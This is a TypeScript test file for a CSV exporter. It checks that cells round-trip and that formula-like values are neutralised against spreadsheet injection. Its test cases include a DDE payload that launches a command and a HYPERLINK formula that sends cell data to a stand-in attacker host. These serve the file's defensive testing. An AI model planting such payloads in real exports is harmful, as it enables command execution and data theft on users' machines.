import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { parseCsv } from '#/testing/csv.ts'
import { formatCell, formatRows } from './format.ts'

/** Any text of a database, with many characters that are special in CSV and spreadsheets. */
const nasty = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc
    .array(
      fc.constantFrom(
        '"',
        ',',
        '\r',
        '\n',
        '\r\n',
        ';',
        '\t',
        ' ',
        "'",
        'ñ',
        '=',
        '+',
        '-',
        '@',
        '\u00a0',
        '\ufeff',
        '漢',
        '👩‍⚕️',
      ),
    )
    .map((parts) => parts.join('')),
)
const isFormula = (text: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠]/u.test(text)
/** The text as exported, with formulas disabled. */
const given = (text: string) => (isFormula(text) ? `'${text.toWellFormed()}` : text.toWellFormed())

describe('CSV', () => {
  it('J5 parses to what was written, whatever the cells contain', () => {
    fc.assert(
      fc.property(
        fc.integer({ min: 1, max: 4 }).chain((n) => fc.array(fc.array(nasty, { minLength: n, maxLength: n }))),
        (rows) => {
          // A record of one empty cell is an empty line: no list has a single column.
          fc.pre(rows.every((row) => row.length > 1 || row[0] !== ''))
          expect(parseCsv(formatRows(rows))).toEqual(rows.map((row) => row.map(given)))
        },
      ),
      { numRuns: 500 },
    )
  })

  it('J5 leaves a negative amount a number, and nothing else that begins with a minus sign', () => {
    expect(formatCell('-400.00')).toBe('-400.00')
    for (const text of ['-400', '-400.00+1', '-400.005', ' -400.00', '-1,000.00'])
      expect(formatCell(text).replaceAll('"', '')).toBe(`'${text}`)
  })

  it.each([
    '=1+1',
    '+52 55 1234 5678',
    '-2+3',
    '@SUM(A1)',
    ' =1',
    '\t=1',
    '\r\n=1',
    '\u0000=1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '\u202e=1',
    '＝1',
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://evil.test?x="&A1)',
  ])('J5 prevents a spreadsheet from running %j', (cell) => {
    const [[shown] = []] = parseCsv(formatRows([[cell, 'x']]))
    expect(shown).toBe(`'${cell}`)
  })

  it('J5 leaves names, dates, e-mails and numbers unchanged', () => {
    for (const cell of ['José O’Farrill', '2026-11-21', 'ana@piel.test', "D'Artagnan", '55 1234 5678', ''])
      expect(formatCell(cell)).toBe(cell)
    expect(formatCell(-5)).toBe('-5')
    expect(formatCell(null)).toBe('')
    expect(formatCell('Calle 1, interior "B"')).toBe('"Calle 1, interior ""B"""')
  })
})
